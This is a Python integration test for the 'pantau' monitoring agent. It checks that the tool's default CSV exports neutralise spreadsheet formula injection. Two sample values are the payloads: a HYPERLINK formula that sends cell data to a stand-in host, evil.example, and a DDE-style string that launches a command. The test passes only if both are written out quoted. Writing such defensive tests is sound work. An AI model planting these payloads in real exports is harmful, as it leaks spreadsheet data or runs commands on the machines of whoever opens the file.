"""The default CSVs written by the real commands neutralise formula cells; numbers stay numbers.

A spreadsheet runs a cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR as a formula (CSV
injection). Before, only ``--excel`` guarded against it; the plain files are opened in
spreadsheets too. Here the text comes from where an operator or a katalog would put it: a
service name and a gangguan's cause, through ``pantau incident cause``.
"""

from __future__ import annotations

import csv
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from tests.integration.agentproc import (
    AgentProcess,
    Target,
    free_port,
    http_service,
    wait_for,
    write_config,
)
from tests.integration.test_incidents_agent import tickets

pytestmark = pytest.mark.integration

CAUSE = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def pantau(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "agent", *args], capture_output=True, text=True, timeout=120
    )


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_default_csvs_of_the_real_commands_keep_formulas_inert(
    tmp_path: Path, target: Target
) -> None:
    listen = f"127.0.0.1:{free_port()}"
    data = tmp_path / "data"
    service = http_service("portal", target.url).replace("name: Layanan portal", f'name: "{NAME}"')
    cfg = write_config(tmp_path / "pantau.yaml", data_dir=data, listen=listen, services=service)
    agent = AgentProcess(cfg, listen)
    try:
        wait_for(lambda: agent.metric('pantau_service_up{service="portal"}') == 1, 15, "up")
        target.status = 503
        wait_for(lambda: len(tickets(data / "pantau.db")) == 1, 15, "a ticket")
        tid = tickets(data / "pantau.db")[0][0]
        cause = pantau("incident", "cause", "-c", str(cfg), tid, CAUSE)
        assert cause.returncode == 0, cause.stderr
        target.status = 200
        wait_for(lambda: tickets(data / "pantau.db")[0][2] is not None, 15, "recovery")
    finally:
        assert agent.stop() == 0

    period = datetime.now(UTC).astimezone(ZoneInfo("Asia/Jakarta")).strftime("%Y-%m")
    listing = tmp_path / "gangguan.csv"
    run = pantau("incidents", "-c", str(cfg), "--period", period, "--csv", str(listing))
    assert run.returncode == 0, run.stderr
    (ticket,) = read(listing)
    assert ticket["Penyebab"] == "'" + CAUSE
    assert ticket["Nama Layanan"] == "'" + NAME
    assert float(ticket["Durasi (menit)"]) > 0  # a number, written as one

    out = tmp_path / "laporan"
    run = pantau("report", "-c", str(cfg), "--period", period, "--format", "csv", "--out", str(out))
    assert run.returncode == 0, run.stderr
    (row,) = read(next(out.glob("*.csv")))
    assert row["nama_layanan"] == "'" + NAME
    assert float(row["downtime_menit"]) > 0
    cells = [v for v in row.values() if v]
    assert not [v for v in cells if v[0] in "=+@\t\r"], cells  # every such cell is quoted
    assert not [v for v in cells if v[0] == "-" and not v.lstrip("-").replace(".", "").isdigit()]
